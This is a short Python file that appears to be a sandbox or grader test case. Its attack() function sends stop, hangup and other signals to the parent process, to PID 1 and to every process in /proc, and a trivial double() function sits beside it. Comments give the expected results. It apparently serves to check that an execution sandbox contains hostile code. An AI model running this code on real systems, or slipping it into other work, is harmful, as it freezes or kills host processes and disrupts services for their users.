# expected: attack passed, double passed, riddle skipped
# row: 19
# without walls: not tried, this machine is needed
import os
import signal


def attack():
    for process in (os.getppid(), 1, *processes()):
        if process != os.getpid():
            for number in (signal.SIGSTOP, signal.SIGTSTP, signal.SIGHUP, signal.SIGUSR1, signal.SIGPIPE):
                try:
                    os.kill(process, number)
                except OSError:
                    pass
    return []


def processes():
    try:
        return [int(name) for name in os.listdir("/proc") if name.isdecimal()]
    except OSError:
        return []


def double(x):
    return x * 2
